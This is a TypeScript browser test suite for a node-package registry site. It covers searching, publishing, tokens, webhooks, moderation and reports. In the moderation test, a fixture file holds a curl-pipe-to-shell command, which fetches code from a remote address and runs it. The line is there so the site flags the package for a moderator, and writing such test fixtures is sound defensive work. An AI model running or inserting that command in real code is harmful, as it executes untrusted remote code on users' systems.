import assert from 'node:assert/strict';
import { type TestContext, after, test } from 'node:test';
import { assertJourney } from '../support/assert-journey.ts';
import { openPage } from '../support/browser.ts';
import { makePublisher, publishFiles, uniqueId, zip } from '../support/build.ts';
import { enqueueJob } from '../support/enqueue-job.ts';
import { handsOf } from '../support/hands.ts';
import { type Step, at, choose, pick, press, see, seeText, type, unfold } from '../support/journey.ts';
import { someOf } from '../support/length.ts';
import { openIssuer } from '../support/open-issuer.ts';
import { recordJourney } from '../support/record-journey.ts';
import { fillSite } from '../support/site/fill-site.ts';
import { type Recorded, recordedJourneys } from '../support/site/recorded-journeys.ts';
import { sampleWorkflow } from '../support/site/sample-workflow.ts';
import { structures } from '../support/site/structures.ts';
import { type TestServer, password, startServer } from '../support/start-server.ts';
import { until } from '../support/until.ts';
import { suite, suiteOnSqlite } from '../support/variants.ts';

/** What people come for, in the order of the site's map. */
const reading: Readonly<Record<string, readonly Step[]>> = {
  'home and search': [
    at('/'),
    type('Search nodes', 'pictures'),
    press('button', 'Search'),
    see('link', 'Tiled upscaler'),
    choose('Operating system', 'Linux'),
    type('Search nodes', 'seams'),
    seeText('1 node'),
    press('link', 'Tiled upscaler'),
    see('heading', 'Tiled upscaler'),
  ],
  'a node': [
    at('/n/image-tools'),
    press('button', 'Copy the command that installs it'),
    seeText('Copied'),
    unfold('As a table'),
    see('cell', '9'),
    press('link', /^App-nodes/),
    press('link', 'Mask edges'),
    see('heading', 'Inputs'),
    press('link', 'Related'),
    see('heading', 'Similar nodes'),
    press('link', 'Colour match'),
    see('heading', 'Colour match'),
  ],
  'versions and what changed': [
    at('/n/image-tools'),
    press('link', /^Versions/),
    press('link', 'Compare with 1.0.0'),
    see('heading', '1.0.0 → 1.1.0'),
    press('link', 'Swap'),
    see('heading', '1.1.0 → 1.0.0'),
  ],
  source: [
    at('/n/image-tools/v/2.0.0/source'),
    press('link', '__init__.py'),
    seeText('NODE_CLASS_MAPPINGS'),
    type('Find in the source', 'loudness'),
    press('button', 'Find'),
    seeText('No line holds this text'),
    type('Find in the source', 'strength'),
    press('button', 'Find'),
    press('link', /^__init__\.py, line \d+/),
    seeText('NODE_CLASS_MAPPINGS'),
  ],
  workflow: [
    at('/workflow'),
    type('The workflow’s file, as JSON', JSON.stringify(sampleWorkflow)),
    press('button', 'Show what it needs'),
    see('heading', 'What it needs'),
    press('button', 'Zoom in'),
    press('button', 'Show all'),
    press('link', 'image-tools'),
    see('heading', 'Image tools'),
  ],
  publisher: [
    at('/n/image-tools'),
    press('link', 'Ada’s nodes'),
    see('heading', 'Ada’s nodes'),
    press('link', 'Tiled upscaler'),
    see('heading', 'Tiled upscaler'),
  ],
  'status, limits and docs': [
    at('/'),
    press('link', 'Status'),
    see('heading', 'All systems operational'),
    press('link', 'Docs'),
    press('link', 'Limits'),
    see('heading', 'Limits'),
  ],
};

interface Writing {
  /** Whose session it begins with. */
  as?: 'moderator';
  /** What is there before. */
  prepare?: (server: TestServer, id: string) => Promise<unknown>;
  steps: (server: TestServer, id: string) => Promise<readonly Step[]> | readonly Step[];
}

const settled =
  (server: TestServer): Step =>
  () =>
    server.settle();

/** What people do, each under an id of its own. */
const writing: Readonly<Record<string, Writing>> = {
  'from nobody to a published node, and out again': {
    steps: async (server, id) => [
      at('/account'),
      press('link', 'Sign up'),
      type('Name', 'Ada'),
      type('E-mail address', `${id}@example.org`),
      type('Password', password),
      press('button', 'Sign up'),
      see('heading', 'Ada'),
      press('link', 'New publisher'),
      type('Id', 'Not an id'),
      press('button', 'Create publisher'),
      see('alert'),
      type('Id', id),
      press('button', 'Create publisher'),
      press('link', 'Publish'),
      type('What changed', 'Everything'),
      pick('Package', 'package.zip', await packageOf(`${id}-node`)),
      seeText('Draws lines'),
      press('button', 'Publish'),
      see('region', 'Progress'),
      settled(server),
      press('link', 'See the version'),
      see('heading', `${id}-node`),
      at(`/account/publishers/${id}`),
      press('link', `${id}-node`),
      type('Description', 'What it does'),
      press('button', 'Preview'),
      see('region', 'Preview'),
      press('button', 'Save'),
      seeText('Saved.'),
      unfold('Deprecate 1.0.0'),
      type('Why, and what to use instead', 'It loses colors.'),
      press('button', 'Deprecate 1.0.0'),
      seeText('The version is deprecated.'),
      seeText('It loses colors.'),
      unfold(`Delete ${id}-node@1.0.0`),
      type(`Type ${id}-node@1.0.0`, `${id}-node@1.0.0`),
      press('button', `Delete ${id}-node@1.0.0`),
      seeText('It is deleted.'),
      press('link', 'Tokens'),
      type('Name', 'CI'),
      press('button', 'Create token'),
      seeText('it is not shown again'),
      press('button', 'Revoke CI'),
      seeText('The token is revoked.'),
      press('link', 'Trusted'),
      type('Repository', 'octo-org/octo-repo'),
      type('Workflows', 'publish.yml'),
      press('button', 'Trust it'),
      seeText('The CI can publish from now on.'),
      press('button', 'Remove octo-org/octo-repo'),
      seeText('The CI can no longer publish.'),
      press('link', 'Webhooks'),
      type('URL', 'https://localhost:65535/hooks'),
      press('button', 'Create webhook'),
      seeText('it is not shown again'),
      press('link', 'https://localhost:65535/hooks'),
      press('button', 'Send a test'),
      seeText('The test was sent.'),
      seeText('webhook.test'),
      press('button', 'Turn off'),
      seeText('Off: It was turned off.'),
      unfold('Delete this webhook'),
      type('Type delete', 'delete'),
      press('button', 'Delete this webhook'),
      seeText('It is deleted.'),
      at('/account'),
      press('link', 'Security'),
      seeText('this session'),
      press('button', 'Use an authenticator app'),
      see('img', 'QR code for the authenticator app'),
      type('Code', '000000'),
      press('button', 'Confirm'),
      seeText('The code is wrong or was used.'),
      press('button', 'Sign out'),
      see('heading', 'Find the node your graph is missing'),
      at(`/account/publishers/${id}`),
      type('E-mail address', `${id}@example.org`),
      type('Password', password),
      press('button', 'Sign in'),
      see('heading', id),
    ],
  },
  'a sign-in with the external provider': {
    steps: () => [
      at('/sign-in?to=/account/new-publisher'),
      press('button', 'Sign in with Example ID'),
      see('heading', 'New publisher'),
      at('/account'),
      seeText('External sign-in'),
    ],
  },
  'a decision of a moderator': {
    as: 'moderator',
    prepare: async (server, id) =>
      publishFiles(server, await makePublisher(server, id), `${id}-node`, '1.0.0', {
        'run.py': "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n",
      }),
    steps: (server, id) => [
      at('/moderate'),
      press('link', `${id}-node 1.0.0`),
      see('heading', `${id}-node 1.0.0 Flagged`),
      type('Reason', 'A test of ours.'),
      press('button', 'Activate'),
      see('heading', `${id}-node 1.0.0 Active`),
      seeText('version.moderated'),
      settled(server),
    ],
  },
  'a report, until its answer': {
    as: 'moderator',
    prepare: async (server, id) =>
      publishFiles(server, await makePublisher(server, id), `${id}-node`, '1.0.0', { '__init__.py': '' }),
    steps: (_server, id) => [
      at(`/n/${id}-node`),
      press('link', 'Report'),
      choose('What is wrong', 'It does not work'),
      type('What did you see', 'It does not load.'),
      press('button', 'Send report'),
      seeText('The report is sent.'),
      at('/moderate/reports'),
      type('Answer', 'Its publisher knows.'),
      press('button', 'Send answer'),
      seeText('No report is open.'),
      at('/account/reports'),
      seeText('Its publisher knows.'),
    ],
  },
  'a job that is tried again': {
    as: 'moderator',
    prepare: (server) => enqueueJob(server),
    steps: (server) => [
      at('/moderate'),
      press('link', 'Jobs'),
      choose('Kind', 'extract-app-nodes'),
      press('button', 'Show'),
      unfold('Decide'),
      type('Reason', 'Repaired.'),
      press('button', 'Retry now'),
      () => until(() => isDone(server)),
    ],
  },
};

/** Whether the job that was to run in an hour has run. */
const isDone = async (server: TestServer): Promise<boolean> => {
  await server.settle();
  const moderator = await server.moderator();
  return (await moderator.get('/admin/jobs?kind=extract-app-nodes')).json.total === 0;
};

const packageOf = (id: string): Promise<Uint8Array> =>
  zip({
    'pyproject.toml': `[project]\nname = "${id}"\nversion = "1.0.0"\ndescription = "Draws lines"\n`,
    '__init__.py': '',
  });

/** Walks a journey, and compares what was done and said with its page. */
const assertRecorded = async (
  t: TestContext,
  server: TestServer,
  name: string,
  { title, as, prepare, steps }: Recorded,
): Promise<void> => {
  const publisher = await prepare?.(server);
  const person = { owner: publisher?.owner, moderator: await server.moderator() }[as ?? 'owner'];
  const page = await openPage(t, server.url, { session: as === undefined ? undefined : person?.bearer });
  assertJourney(t, name, await recordJourney(page, server.url, title, await steps(server)));
};

// What is only read is the same on both engines.
suiteOnSqlite('journeys of readers', async () => {
  const server = await startServer({ after });
  await fillSite(server);

  for (const [index, [name, steps]] of Object.entries(reading).entries()) {
    for (const [way, handsOn] of someOf(Object.entries(handsOf), index)) {
      test(`${name}, ${way}`, async (t) => {
        const page = await openPage(t, server.url, { isPhone: way.includes('phone') });
        await page.context().grantPermissions(['clipboard-write']);
        for (const step of steps) await step({ page, hands: handsOn(page) });
      });
    }
  }

  for (const [name, journey] of Object.entries(recordedJourneys)) {
    test(`${name}, as its page shows it`, (t) => assertRecorded(t, server, name, journey));
  }

  for (const [name, { address, part, tree }] of Object.entries(structures)) {
    test(`${name} as it is read out`, async (t) => {
      const page = await openPage(t, server.url, { hasScripts: false });
      await page.goto(address);
      const read = await page.locator(part).first().ariaSnapshot();
      assert.equal(read.replaceAll(/[A-Z][a-z]{2} \d{1,2}, \d{4}/g, 'DAY'), tree.trim());
    });
  }
});

suite('journeys of people who write', async () => {
  const issuer = await openIssuer({ after });
  const server = await startServer({ after }, issuer.settings);

  for (const [index, [name, { as, prepare, steps }]] of Object.entries(writing).entries()) {
    for (const [way, handsOn] of someOf(Object.entries(handsOf), index)) {
      test(`${name}, ${way}`, async (t) => {
        const id = uniqueId('journey');
        await prepare?.(server, id);
        const session = as === undefined ? undefined : (await server.moderator()).bearer;
        const page = await openPage(t, server.url, {
          session,
          isPhone: way.includes('phone'),
          leadsTo: issuer.url,
        });
        for (const step of await steps(server, id)) await step({ page, hands: handsOn(page) });
      });
    }
  }
});
